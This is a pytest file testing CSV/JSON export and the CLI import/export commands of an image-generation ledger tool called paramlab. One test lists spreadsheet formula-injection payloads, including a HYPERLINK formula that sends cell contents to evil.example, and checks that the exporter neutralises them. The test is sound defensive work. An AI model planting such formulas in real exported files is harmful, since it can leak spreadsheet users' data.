"""CSV/JSON export of a real ledger, and the ``import``/``export`` commands run as real processes."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from paramlab.ledger import ImageRecord, RunRecord
from paramlab.ledger.exporter import export_columns, export_images

REPO_ROOT = Path(__file__).resolve().parents[2]
STARTED = datetime(2024, 6, 1, 8, 0, 0, tzinfo=timezone.utc)
TRICKY_PROMPT = 'a "quoted", comma\nnew line 猫🐈 \x00 end'


def fill(ledger) -> None:
    """Two runs, three images, with values that stress CSV and JSON quoting."""
    images = [
        ImageRecord(index_in_run=0, created_at=STARTED + timedelta(seconds=1), seed=1, prompt=TRICKY_PROMPT,
                    steps=20, cfg_scale=7.0, sampler="Euler a", hires_enabled=True, hires_scale=2.0,
                    extra_params='{"Version": "v1.10.1"}', cost_seconds=1.5),
        ImageRecord(index_in_run=1, created_at=STARTED + timedelta(seconds=2), seed=2, prompt="plain",
                    steps=20),
    ]
    ledger.write_runs([
        RunRecord(tab="txt2img", source="ui", started_at=STARTED, finished_at=STARTED + timedelta(seconds=3),
                  wall_seconds=3.25, images=images),
        RunRecord(tab="img2img", source="import", started_at=STARTED, images=[
            ImageRecord(index_in_run=0, created_at=STARTED, seed=3, denoising_strength=0.5),
        ]),
    ])


def test_csv_round_trip(ledger) -> None:
    fill(ledger)
    out = io.StringIO(newline="")
    assert export_images(ledger, "csv", out) == 3
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 3
    assert list(rows[0]) == export_columns(ledger)
    first, _second, third = rows
    assert first["prompt"] == TRICKY_PROMPT.replace("\x00", "\ufffd")  # Python 3.10's csv cannot write NUL
    assert first["seed"] == "1" and first["cfg_scale"] == "7.0" and first["hires_enabled"] == "True"
    assert first["created_at"] == "2024-06-01T08:00:01+00:00"
    assert first["tab"] == "txt2img" and first["wall_seconds"] == "3.25" and first["run_status"] == "ok"
    assert first["negative_prompt"] == ""  # None
    assert third["tab"] == "img2img" and third["source"] == "import" and third["denoising_strength"] == "0.5"
    assert datetime.fromisoformat(third["created_at"]) == STARTED


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(ledger) -> None:
    """OWASP's rule: a text cell starting with =, +, -, @, tab or CR gets a leading single quote, so the
    spreadsheet shows it instead of running it; numbers (and text that is a plain negative number) stay."""
    images = [ImageRecord(index_in_run=n, created_at=STARTED, seed=-1, prompt=prompt, negative_prompt=prompt,
                          sampler="@Euler", cfg_scale=-1.5, cost_seconds=-0.25)
              for n, prompt in enumerate([*FORMULAS, "-1.5"])]
    ledger.write_runs([RunRecord(tab="txt2img", source="ui", started_at=STARTED, model_name="=1+1", images=images)])
    out = io.StringIO(newline="")
    export_images(ledger, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["prompt"] for row in rows] == ["'" + formula for formula in FORMULAS] + ["-1.5"]
    assert [row["negative_prompt"] for row in rows] == [row["prompt"] for row in rows]
    assert {row["sampler"] for row in rows} == {"'@Euler"}
    assert {(row["seed"], row["cfg_scale"], row["cost_seconds"]) for row in rows} == {("-1", "-1.5", "-0.25")}
    assert all(not value.startswith(("=", "+", "@", "\t", "\r")) for row in rows for value in row.values())


def test_json_round_trip(ledger) -> None:
    fill(ledger)
    out = io.StringIO()
    assert export_images(ledger, "json", out) == 3
    text = out.getvalue()
    assert "猫🐈" in text  # ensure_ascii=False
    rows = json.loads(text)
    assert [row["seed"] for row in rows] == [1, 2, 3]
    assert rows[0]["prompt"] == TRICKY_PROMPT
    assert rows[0]["hires_enabled"] is True and rows[0]["negative_prompt"] is None
    assert rows[0]["created_at"] == "2024-06-01T08:00:01+00:00"
    assert rows[0]["wall_seconds"] == 3.25 and rows[0]["cost_seconds"] == 1.5
    assert list(rows[0]) == export_columns(ledger)


@pytest.mark.parametrize(("fmt", "expected"), [("csv", None), ("json", [])])
def test_empty_ledger(ledger, fmt: str, expected) -> None:
    out = io.StringIO()
    assert export_images(ledger, fmt, out) == 0
    if fmt == "json":
        assert json.loads(out.getvalue()) == expected
    else:
        assert next(csv.reader(io.StringIO(out.getvalue()))) == export_columns(ledger)


def test_unknown_format(ledger) -> None:
    with pytest.raises(ValueError, match="csv, json"):
        export_images(ledger, "xml", io.StringIO())


def test_more_rows_than_one_read_chunk(ledger) -> None:
    images = [ImageRecord(index_in_run=i, seed=i, created_at=STARTED) for i in range(2_345)]
    ledger.write_runs([RunRecord(tab="txt2img", source="ui", started_at=STARTED, images=images)])
    out = io.StringIO()
    assert export_images(ledger, "json", out) == 2_345
    assert [row["seed"] for row in json.loads(out.getvalue())] == list(range(2_345))


# -- the command line, as a user runs it ------------------------------------------------------------


def run_cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, PARAMLAB_HOME=str(tmp_path / "home"), PYTHONIOENCODING="utf-8")
    return subprocess.run(
        [sys.executable, "-m", "paramlab", *args], cwd=REPO_ROOT, env=env,
        capture_output=True, text=True, encoding="utf-8", timeout=120,
    )


def make_png(path: Path, text: str | None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    info = PngInfo()
    if text is not None:
        info.add_text("parameters", text)
    Image.new("RGB", (8, 8), (len(path.name), 0, 0)).save(path, pnginfo=info)


def test_cli_import_then_export(tmp_path: Path) -> None:
    outputs = tmp_path / "outputs" / "txt2img-images"
    for seed in (11, 12):
        text = f"a 猫 lamp\nSteps: 20, Sampler: Euler a, CFG scale: 7, Seed: {seed}"
        make_png(outputs / f"{seed}.png", text)
    make_png(outputs / "broken.png", "not infotext")
    db = tmp_path / "ledger.sqlite"

    first = run_cli(tmp_path, "--db", str(db), "import", "--quiet", str(tmp_path / "outputs"))
    assert first.returncode == 0, first.stderr
    assert "Imported 2 image(s); 0 already in the ledger; 1 skipped:" in first.stderr
    assert "broken.png: malformed infotext" in first.stderr

    second = run_cli(tmp_path, "--db", str(db), "import", str(tmp_path / "outputs"))
    assert second.returncode == 0, second.stderr
    assert "Imported 0 image(s); 2 already in the ledger; 1 skipped:" in second.stderr

    out_file = tmp_path / "export.json"
    exported = run_cli(tmp_path, "--db", str(db), "export", "--format", "json", "-o", str(out_file))
    assert exported.returncode == 0, exported.stderr
    assert "exported 2 image row(s) as json" in exported.stderr
    rows = json.loads(out_file.read_text(encoding="utf-8"))
    assert sorted(row["seed"] for row in rows) == [11, 12]
    assert {row["source"] for row in rows} == {"import"} and rows[0]["prompt"] == "a 猫 lamp"

    to_stdout = run_cli(tmp_path, "--db", str(db), "export", "--format", "csv")
    assert to_stdout.returncode == 0, to_stdout.stderr
    assert len(list(csv.DictReader(io.StringIO(to_stdout.stdout)))) == 2


def test_cli_import_of_a_missing_folder_fails(tmp_path: Path) -> None:
    result = run_cli(tmp_path, "--db", str(tmp_path / "l.sqlite"), "import", str(tmp_path / "missing"))
    assert result.returncode == 1
    assert "is not a folder" in result.stderr
